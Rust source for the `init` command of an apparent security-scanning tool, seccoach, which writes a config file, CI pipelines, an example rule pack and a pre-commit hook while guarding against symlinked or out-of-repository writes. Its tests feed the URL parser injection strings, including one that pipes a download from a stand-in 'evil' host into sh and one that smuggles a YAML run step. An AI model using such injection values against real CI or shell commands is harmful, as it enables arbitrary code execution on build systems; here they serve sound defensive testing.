//! `seccoach init`: puts seccoach into a repository. It writes `.seccoach.toml` with every option
//! listed; on request a CI pipeline (a GitHub Actions workflow that uploads SARIF to code
//! scanning, or a GitLab CI job that hands GitLab a SAST report) and an example team pack in
//! `.seccoach/`. The pipelines themselves follow every `actions/*` rule seccoach checks.
//! Nothing existing is replaced without `--force`.

use crate::catalog::Severity;
use std::path::{Path, PathBuf};

const CONFIG_TEMPLATE: &str = include_str!("../assets/seccoach.toml");
const GITHUB_TEMPLATE: &str = include_str!("../assets/seccoach-workflow.yml");
const GITLAB_TEMPLATE: &str = include_str!("../assets/seccoach-gitlab.yml");
const PACK_RULE: &str = include_str!("../assets/pack/checks/internal-http-client.toml");
const PACK_LESSON: &str = include_str!("../assets/pack/lessons/internal-http-client.md");

/// Where the GitHub workflow goes, relative to the repository root.
pub const WORKFLOW_PATH: &str = ".github/workflows/seccoach.yml";
/// The GitLab pipeline of a repository.
pub const GITLAB_CI_PATH: &str = ".gitlab-ci.yml";
/// The GitLab job as a file to include, when the repository already has a pipeline.
pub const GITLAB_INCLUDE_PATH: &str = ".gitlab/seccoach.yml";
/// The example team pack.
pub const PACK_RULE_PATH: &str = ".seccoach/checks/internal-http-client.toml";
pub const PACK_LESSON_PATH: &str = ".seccoach/lessons/internal-http-client.md";

/// The CI systems `init --ci` writes a pipeline for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Ci {
    Github,
    Gitlab,
}

/// How the pipeline installs seccoach.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Install {
    /// Built from its repository at a pinned commit (`init --from URL@SHA`).
    Git { url: String, rev: String },
    /// From crates.io, at this version (`init --published`).
    Published { version: String },
}

impl Install {
    /// The version of seccoach running now, from crates.io.
    pub fn published() -> Install {
        Install::Published {
            version: env!("CARGO_PKG_VERSION").to_owned(),
        }
    }

    /// Parses `URL@SHA`: an https:// URL without credentials, and a full 40-hex commit id.
    /// Only plain URL characters are accepted, as the text goes into YAML and a shell command.
    pub fn parse_from(text: &str) -> Result<Install, String> {
        let Some((url, rev)) = text.rsplit_once('@') else {
            return Err(format!(
                "`{}` is not URL@COMMIT (e.g. https://github.com/org/seccoach@<40-hex commit>)",
                crate::display::sanitize(text)
            ));
        };
        let Some(rest) = url.strip_prefix("https://") else {
            return Err("the repository URL must start with https://".to_owned());
        };
        if rest.is_empty()
            || !rest
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "-._~/:%".contains(c))
        {
            return Err(
                "the repository URL may hold only letters, digits and - . _ ~ / : % (no \
                 credentials, spaces or quotes)"
                    .to_owned(),
            );
        }
        if rev.len() != 40 || !rev.chars().all(|c| c.is_ascii_hexdigit()) {
            return Err(format!(
                "`{}` is not a full commit id (40 hexadecimal digits); a branch or tag can move",
                crate::display::sanitize(rev)
            ));
        }
        Ok(Install::Git {
            url: url.to_owned(),
            rev: rev.to_ascii_lowercase(),
        })
    }

    fn command(&self) -> String {
        match self {
            Install::Git { url, rev } => format!("cargo install --locked --git {url} --rev {rev}"),
            Install::Published { version } => {
                format!("cargo install --locked seccoach --version {version}")
            }
        }
    }

    /// What the build cache is keyed on.
    fn key(&self) -> &str {
        match self {
            Install::Git { rev, .. } => rev,
            Install::Published { version } => version,
        }
    }

    fn what(&self) -> &'static str {
        match self {
            Install::Git { .. } => "commit",
            Install::Published { .. } => "version",
        }
    }
}

fn fill(template: &str, install: &Install) -> String {
    template
        .replace("{install_what}", install.what())
        .replace("{install_key}", install.key())
        .replace("{install}", &install.command())
}

/// The `.seccoach.toml` init writes.
pub fn config(fail_on: Severity) -> String {
    CONFIG_TEMPLATE.replace("{fail_on}", fail_on.as_str())
}

/// The GitHub Actions workflow text. Its scan fails at `fail_on` in `.seccoach.toml`, so local
/// runs and CI agree on one threshold.
pub fn workflow(install: &Install) -> String {
    fill(GITHUB_TEMPLATE, install)
}

/// The GitLab CI job text (a whole `.gitlab-ci.yml`, or a file to include).
pub fn gitlab_job(install: &Install) -> String {
    fill(GITLAB_TEMPLATE, install)
}

/// What `init` was asked to do.
#[derive(Debug, Clone)]
pub struct Request {
    /// The threshold written into `.seccoach.toml` (default: high).
    pub fail_on: Option<Severity>,
    pub ci: Option<Ci>,
    pub install: Option<Install>,
    pub pack: bool,
    pub force: bool,
}

/// A file init wrote, and what to tell the user about it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Written {
    /// Relative to the repository root, `/`-separated.
    pub path: String,
    pub note: Option<String>,
}

/// What init did: files written, and an existing `.seccoach.toml` it kept.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Outcome {
    pub written: Vec<Written>,
    pub kept: Vec<String>,
}

/// Files that exist where init would write, without `--force`.
#[derive(Debug, thiserror::Error)]
#[error(
    "{} already {}; nothing was written. Pass --force to replace {}",
    .0.join(", "),
    if .0.len() == 1 { "exists" } else { "exist" },
    if .0.len() == 1 { "it" } else { "them" }
)]
pub struct Exists(pub Vec<String>);

/// A file to write: its path relative to the root, its text, and what to tell the user.
type Planned = (String, String, Option<String>);

/// The files of a request, in the order they are written, each with its note. An existing
/// `.seccoach.toml` is kept when something else (a pipeline, a pack) was asked for.
fn plan(root: &Path, request: &Request) -> anyhow::Result<(Vec<Planned>, Vec<String>)> {
    let mut files = Vec::new();
    let mut kept = Vec::new();
    let config_exists = exists(&root.join(crate::config::FILE_NAME));
    if request.ci.is_none() && !request.pack || !config_exists || request.force {
        files.push((
            crate::config::FILE_NAME.to_owned(),
            config(request.fail_on.unwrap_or(Severity::High)),
            Some(
                "every option, with its default; `fail_on` is the threshold CI fails at".to_owned(),
            ),
        ));
    } else if request.fail_on.is_some() {
        anyhow::bail!(
            "--fail-on is written into {0}, which exists and is kept; set `fail_on` in {0} \
             instead (or pass --force to replace the file)",
            crate::config::FILE_NAME
        );
    } else {
        kept.push(crate::config::FILE_NAME.to_owned());
    }
    if let Some(ci) = request.ci {
        let Some(install) = &request.install else {
            anyhow::bail!(
                "--ci needs to know how the pipeline installs seccoach: --from URL@COMMIT (built \
                 from its repository at that commit) or --published (from crates.io)"
            );
        };
        match ci {
            Ci::Github => files.push((
                WORKFLOW_PATH.to_owned(),
                workflow(install),
                Some("commit it, and findings appear under Security → Code scanning".to_owned()),
            )),
            Ci::Gitlab => {
                let pipeline = root.join(GITLAB_CI_PATH);
                if exists(&pipeline) {
                    let text = std::fs::read_to_string(&pipeline).unwrap_or_default();
                    let line = if text.lines().any(|l| l.starts_with("include:")) {
                        format!("  - local: '{GITLAB_INCLUDE_PATH}'   (under its `include:`)")
                    } else {
                        format!("include: '{GITLAB_INCLUDE_PATH}'")
                    };
                    files.push((
                        GITLAB_INCLUDE_PATH.to_owned(),
                        gitlab_job(install),
                        Some(format!("add this line to {GITLAB_CI_PATH}:\n    {line}")),
                    ));
                } else {
                    files.push((
                        GITLAB_CI_PATH.to_owned(),
                        gitlab_job(install),
                        Some("commit it, and findings appear in merge requests".to_owned()),
                    ));
                }
            }
        }
    }
    if request.pack {
        files.push((
            PACK_RULE_PATH.to_owned(),
            PACK_RULE.to_owned(),
            Some("an example team rule (`seccoach checks` lists it)".to_owned()),
        ));
        files.push((
            PACK_LESSON_PATH.to_owned(),
            PACK_LESSON.to_owned(),
            Some("an example team lesson (`seccoach lessons` lists it)".to_owned()),
        ));
    }
    Ok((files, kept))
}

fn exists(path: &Path) -> bool {
    std::fs::symlink_metadata(path).is_ok()
}

/// Writes what `request` asks for under `root`. Without `force`, any file that already exists
/// stops the whole run before anything is written ([`Exists`]).
pub fn run(root: &Path, request: &Request) -> anyhow::Result<Outcome> {
    if !root.is_dir() {
        anyhow::bail!("{} is not a directory", root.display());
    }
    let (files, kept) = plan(root, request)?;
    if !request.force {
        let existing: Vec<String> = files
            .iter()
            .filter(|(rel, _, _)| exists(&root.join(rel)))
            .map(|(rel, _, _)| rel.clone())
            .collect();
        if !existing.is_empty() {
            return Err(Exists(existing).into());
        }
    }
    let mut outcome = Outcome {
        kept,
        ..Outcome::default()
    };
    for (rel, text, note) in files {
        write_file(root, &rel, &text)?;
        outcome.written.push(Written { path: rel, note });
    }
    Ok(outcome)
}

/// Writes one file under `root`, as fixes are written ([`crate::edit`]): inside the repository
/// and never through a link, so a repository cannot steer the write elsewhere.
fn write_file(root: &Path, rel: &str, text: &str) -> anyhow::Result<PathBuf> {
    let path = root.join(rel);
    // The folders are created only where the nearest existing one is inside the repository.
    let real_root = root.canonicalize()?;
    let mut existing = path.parent();
    while let Some(dir) = existing.filter(|d| std::fs::symlink_metadata(d).is_err()) {
        existing = dir.parent();
    }
    if let Some(dir) = existing
        && !dir.canonicalize()?.starts_with(&real_root)
    {
        anyhow::bail!(
            "{} leads outside the repository; not writing {rel} there",
            dir.display()
        );
    }
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir)?;
    }
    let real = crate::edit::resolve(root, rel)?;
    let before = if exists(&real) {
        Some(std::fs::read(&real)?)
    } else {
        None
    };
    crate::edit::replace(&real, rel, before.as_deref(), text.as_bytes())?;
    Ok(path)
}

/// The pre-commit hook `seccoach init --hook` installs: checks what is staged, and blocks the
/// commit (exit 1) on a finding at or above `fail_on`.
pub fn hook(fail_on: Severity) -> String {
    format!(
        "#!/bin/sh\n\
         # Installed by `seccoach init --hook`: checks what this commit adds (git's index, not the\n\
         # working-tree files) and blocks it on a finding at or above {fail_on}.\n\
         # Skip it once with `git commit --no-verify`.\n\
         exec seccoach scan --staged --fail-on {fail_on}\n",
        fail_on = fail_on.as_str()
    )
}

/// Where the hook was written, and whether `core.hooksPath` chose the folder.
pub struct Installed {
    pub path: PathBuf,
    pub hooks_path: bool,
}

/// Installs the pre-commit hook of the repository at (or above) `root`: in the folder
/// `core.hooksPath` names when it is set (git runs hooks only from there), else in the
/// repository's `hooks` folder. An existing hook is never replaced: the error says how to chain
/// seccoach into it. The file is created new (never through a link) and made executable.
pub fn install_hook(root: &Path, fail_on: Severity) -> anyhow::Result<Installed> {
    let repo = gix::discover(root).map_err(|e| {
        anyhow::anyhow!(
            "{} is not in a git repository ({e}); the pre-commit hook needs one",
            root.display()
        )
    })?;
    let configured = repo
        .config_snapshot()
        .string("core.hooksPath")
        .map(|p| p.to_string());
    let (dir, hooks_path) = match configured {
        Some(path) => {
            let path = PathBuf::from(path);
            // Relative to the top of the work tree, as git reads it (the git folder when bare).
            let base = repo.workdir().unwrap_or_else(|| repo.git_dir());
            (base.join(path), true)
        }
        None => (repo.common_dir().join("hooks"), false),
    };
    let path = dir.join("pre-commit");
    if std::fs::symlink_metadata(&path).is_ok() {
        anyhow::bail!(
            "{} already exists and is left as it is. To run seccoach from it too, add this line \
             to it (before any `exec`): `seccoach scan --staged --fail-on {} || exit 1`",
            path.display(),
            fail_on.as_str()
        );
    }
    std::fs::create_dir_all(&dir)
        .map_err(|e| anyhow::anyhow!("could not create the hooks folder {}: {e}", dir.display()))?;
    let mut file = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .open(&path)
        .map_err(|e| anyhow::anyhow!("could not create {}: {e}", path.display()))?;
    std::io::Write::write_all(&mut file, hook(fail_on).as_bytes())
        .map_err(|e| anyhow::anyhow!("could not write {}: {e}", path.display()))?;
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        file.set_permissions(std::fs::Permissions::from_mode(0o755))?;
    }
    Ok(Installed { path, hooks_path })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog::Catalog;

    fn from() -> Install {
        Install::parse_from(
            "https://github.com/seccoach/seccoach@009e32be4f70f8b6feaacad25487192123d57541",
        )
        .unwrap()
    }

    fn request(ci: Option<Ci>) -> Request {
        Request {
            fail_on: None,
            ci,
            install: Some(from()),
            pack: false,
            force: false,
        }
    }

    #[test]
    fn templates_are_filled() {
        let text = workflow(&from());
        assert!(text.contains("run: seccoach scan --format sarif --output seccoach.sarif\n"));
        assert!(text.contains(
            "run: cargo install --locked --git https://github.com/seccoach/seccoach --rev \
             009e32be4f70f8b6feaacad25487192123d57541"
        ));
        assert!(!text.contains('{') || !text.contains("{install"), "{text}");
        // The advisory database is refreshed, and cached between runs, before the scan.
        let update = text.find("run: seccoach advisories update").unwrap();
        assert!(text.find("path: ~/.cache/seccoach").unwrap() < update);
        assert!(update < text.find("run: seccoach scan").unwrap());
        // The build is cached, keyed on what was installed.
        assert!(text.contains("key: seccoach-bin-${{ runner.os }}-009e32be4f70"));
        let published = workflow(&Install::published());
        assert!(published.contains(&format!(
            "cargo install --locked seccoach --version {}",
            env!("CARGO_PKG_VERSION")
        )));
        let gitlab = gitlab_job(&from());
        assert!(gitlab.contains("--format gitlab-sast --output gl-sast-report.json\n"));
        assert!(gitlab.contains("sast: gl-sast-report.json"));
        assert!(!gitlab.contains("{install"));
    }

    #[test]
    fn the_config_lists_every_option_and_its_examples_are_valid() {
        let catalog = Catalog::embedded().unwrap();
        let text = config(Severity::Medium);
        let parsed = crate::config::Config::parse("x.toml", &text, &catalog).unwrap();
        assert_eq!(parsed.fail_on, Some(Severity::Medium));
        assert_eq!(parsed, {
            let mut defaults = crate::config::Config {
                fail_on: Some(Severity::Medium),
                max_file_size: Some(crate::config::DEFAULT_MAX_FILE_SIZE),
                ..Default::default()
            };
            defaults.fail_on = Some(Severity::Medium);
            defaults
        });
        // Each commented example, put in place of its key, is accepted too.
        let mut examples = String::new();
        // The top-level keys come before the first table; `[paths]` is checked below.
        for line in text.lines().take_while(|l| !l.starts_with('[')) {
            if let Some(example) = line.strip_prefix("# ")
                && example.split_once(" = ").is_some_and(|(k, _)| {
                    !k.contains(' ') && text.contains(&format!("\n{k} = ")) || k == "advisories"
                })
            {
                examples.push_str(example);
                examples.push('\n');
            }
        }
        let keys: Vec<&str> = examples
            .lines()
            .filter_map(|l| l.split(" = ").next())
            .collect();
        assert_eq!(
            keys,
            ["exclude", "disable", "severity", "advisories", "packs"],
            "{examples}"
        );
        let parsed = crate::config::Config::parse("x.toml", &examples, &catalog).unwrap();
        assert_eq!(parsed.disable, ["docker/missing-healthcheck"]);
        let paths = text.split_once("\n[paths]\n").expect("a [paths] table").1;
        let example = paths
            .lines()
            .find_map(|l| l.strip_prefix("# tests = "))
            .expect("a commented tests example");
        let parsed = crate::config::Config::parse(
            "x.toml",
            &format!("[paths]\ntests = {example}\n"),
            &catalog,
        )
        .unwrap();
        assert_eq!(parsed.tests, ["qa/", "!docs/runbooks/"]);
    }

    #[test]
    fn from_takes_only_a_plain_https_url_and_a_full_commit() {
        assert!(matches!(from(), Install::Git { rev, .. } if rev.len() == 40));
        let sha = "0123456789abcdef0123456789abcdef01234567";
        for bad in [
            format!("http://example.com/seccoach@{sha}"),
            format!("https://deploy@example.com/seccoach@{sha}"),
            format!("https://example.com/x'; curl evil|sh; '@{sha}"),
            format!("https://example.com/x\n  - run: evil@{sha}"),
            "https://example.com/seccoach@main".to_owned(),
            "https://example.com/seccoach@0123456".to_owned(),
            "https://example.com/seccoach".to_owned(),
        ] {
            assert!(Install::parse_from(&bad).is_err(), "{bad:?} was accepted");
        }
    }

    #[test]
    fn gitlab_writes_an_include_file_when_a_pipeline_exists() {
        let dir = tempfile::tempdir().unwrap();
        let out = run(dir.path(), &request(Some(Ci::Gitlab))).unwrap();
        let paths: Vec<&str> = out.written.iter().map(|w| w.path.as_str()).collect();
        assert_eq!(paths, [".seccoach.toml", ".gitlab-ci.yml"]);

        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join(".gitlab-ci.yml"),
            "build:\n  script: [make]\n",
        )
        .unwrap();
        let out = run(dir.path(), &request(Some(Ci::Gitlab))).unwrap();
        assert_eq!(out.written[1].path, GITLAB_INCLUDE_PATH);
        assert!(
            out.written[1]
                .note
                .as_deref()
                .unwrap()
                .contains("include: '.gitlab/seccoach.yml'"),
            "{out:?}"
        );
        assert_eq!(
            std::fs::read_to_string(dir.path().join(".gitlab-ci.yml")).unwrap(),
            "build:\n  script: [make]\n"
        );

        // A pipeline with includes gets the list item to add under them.
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join(".gitlab-ci.yml"),
            "include:\n  - template: Security/SAST.gitlab-ci.yml\n",
        )
        .unwrap();
        let out = run(dir.path(), &request(Some(Ci::Gitlab))).unwrap();
        let note = out.written[1].note.as_deref().unwrap();
        assert!(note.contains("- local: '.gitlab/seccoach.yml'"), "{note}");
    }

    #[test]
    fn ci_needs_to_know_how_to_install() {
        let dir = tempfile::tempdir().unwrap();
        let mut req = request(Some(Ci::Github));
        req.install = None;
        let err = run(dir.path(), &req).unwrap_err();
        assert!(err.to_string().contains("--from URL@COMMIT"), "{err}");
        assert!(!dir.path().join(".seccoach.toml").exists());
    }

    #[cfg(unix)]
    #[test]
    fn never_writes_through_a_link_or_out_of_the_repository() {
        let repo = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        let target = outside.path().join("cron");
        let workflows = repo.path().join(".github/workflows");
        std::fs::create_dir_all(&workflows).unwrap();
        std::os::unix::fs::symlink(&target, workflows.join("seccoach.yml")).unwrap();
        let mut req = request(Some(Ci::Github));
        req.force = true;
        let err = run(repo.path(), &req).unwrap_err();
        assert!(err.to_string().contains("not a regular file"), "{err}");
        assert!(!target.exists(), "the dangling link was written through");

        let repo = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink(outside.path(), repo.path().join(".github")).unwrap();
        let err = run(repo.path(), &request(Some(Ci::Github))).unwrap_err();
        assert!(
            err.to_string().contains("leads outside the repository"),
            "{err}"
        );
        assert!(!outside.path().join("workflows").exists());
    }

    #[test]
    fn refuses_to_overwrite_without_force_and_writes_nothing() {
        let dir = tempfile::tempdir().unwrap();
        run(dir.path(), &request(None)).unwrap();
        std::fs::write(dir.path().join(".seccoach.toml"), "fail_on = \"low\"\n").unwrap();
        let err = run(dir.path(), &request(None)).unwrap_err();
        assert!(
            err.to_string().contains(".seccoach.toml already exists"),
            "{err}"
        );
        assert!(err.to_string().contains("--force"), "{err}");
        // Asked for a pipeline, init keeps the team's config and adds the workflow.
        let out = run(dir.path(), &request(Some(Ci::Github))).unwrap();
        assert_eq!(out.kept, [".seccoach.toml"]);
        assert_eq!(
            std::fs::read_to_string(dir.path().join(".seccoach.toml")).unwrap(),
            "fail_on = \"low\"\n"
        );
        let err = run(dir.path(), &request(Some(Ci::Github))).unwrap_err();
        assert!(err.to_string().contains(WORKFLOW_PATH), "{err}");
        // A threshold for a config that is kept would be lost: said, not ignored.
        let mut req = request(Some(Ci::Gitlab));
        req.fail_on = Some(Severity::Critical);
        let err = run(dir.path(), &req).unwrap_err();
        assert!(err.to_string().contains("set `fail_on`"), "{err}");
        let mut req = request(Some(Ci::Github));
        req.force = true;
        req.fail_on = Some(Severity::Critical);
        run(dir.path(), &req).unwrap();
        let text = std::fs::read_to_string(dir.path().join(".seccoach.toml")).unwrap();
        assert!(text.contains("\nfail_on = \"critical\"\n"));
    }
}
